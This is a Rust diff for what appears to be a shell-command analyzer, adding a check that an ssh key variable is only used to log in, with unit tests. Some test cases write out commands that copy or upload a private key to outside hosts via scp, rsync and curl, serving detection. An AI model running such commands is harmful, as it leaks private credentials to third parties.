@@ -163,7 +163,13 @@ pub fn prepare(text: &str, toks: &[Token], lang: Lang) -> Option<Stmt> {
     strings.truncate(MAX_NAMES);
     let indent = text[..start].rfind('\n').map_or(start, |nl| start - nl - 1);
     let (assigns, rhs_at) = assignment(text, toks, lang, start);
-    let env_args = env_arguments(&code);
+    let mut env_args = env_arguments(&code);
+    env_args.extend(
+        refs.iter()
+            .filter(|r| identity_only(&code, r))
+            .cloned()
+            .collect::<Vec<_>>(),
+    );
     Some(Stmt {
         start,
         end,
@@ -188,6 +194,38 @@ pub(super) fn env_arguments(code: &str) -> Vec<String> {
         .captures_iter(code)
         .map(|c| c[3].to_owned())
         .collect()
+}
+
+/// Whether every use of `name` in `code` is the identity file of an ssh client (`ssh -i
+/// "$KEY"`, `scp -i $KEY`, `rsync -e "ssh -i $KEY"`, `-o IdentityFile=$KEY`, `["ssh", "-i",
+/// key]`): the key is used to log in, not sent. `scp -i "$KEY" "$KEY" host:` also copies it.
+pub fn identity_only(code: &str, name: &str) -> bool {
+    if !(code.contains("ssh") || code.contains("scp") || code.contains("sftp")) {
+        return false;
+    }
+    let mut seen = false;
+    for (at, _) in code.match_indices(name) {
+        let before = &code[..at];
+        let after = code[at + name.len()..].chars().next();
+        let starts = before
+            .chars()
+            .next_back()
+            .is_none_or(|c| !(c.is_alphanumeric() || c == '_'));
+        if !starts || after.is_some_and(|c| c.is_alphanumeric() || c == '_') {
+            continue;
+        }
+        seen = true;
+        let option = before.trim_end_matches(['$', '{', '"', '\'', ' ', '\t', ',', '[', '(']);
+        let identity = option.ends_with("IdentityFile=")
+            || option.ends_with("IdentityFile")
+            || option
+                .strip_suffix("-i")
+                .is_some_and(|head| head.ends_with([' ', '\t', '"', '\'', '[', '(', ',']));
+        if !identity {
+            return false;
+        }
+    }
+    seen
 }
 
 /// What the body of a loop or condition on one line assigns: `for (…) { $bmp.SetPixel(…) }`.
@@ -334,4 +372,34 @@ pub(super) fn assignment(
         }
     }
     (Vec::new(), 0)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::identity_only;
+
+    #[test]
+    fn a_key_given_to_ssh_is_used_not_sent() {
+        for code in [
+            r#"ssh -i "$KEY" deploy@site.example.org 'mkdir -p www'"#,
+            r#"scp -q -i "$KEY" -r public deploy@site.example.org:www/"#,
+            r#"rsync -e "ssh -i $KEY" -a public/ deploy@site.example.org:www/"#,
+            r#"rsync -e "ssh -o IdentityFile=${KEY}" -a public/ host:www/"#,
+            r#"subprocess.run(["ssh", "-i", KEY, host, "uptime"])"#,
+        ] {
+            assert!(identity_only(code, "KEY"), "{code}");
+        }
+        for code in [
+            // The key copied as well as used.
+            r#"scp -i "$KEY" "$KEY" audit@203.0.113.9:keys/"#,
+            r#"rsync -e "ssh -i $KEY" "$KEY" host:"#,
+            // Not an ssh client: `-i` means something else.
+            r#"curl -i -F "k=@$KEY" https://x.example/"#,
+            // Another name that starts the same.
+            r#"ssh -i "$KEY_FILE" host; cat "$KEY""#,
+            r"echo nothing here",
+        ] {
+            assert!(!identity_only(code, "KEY"), "{code}");
+        }
+    }
 }
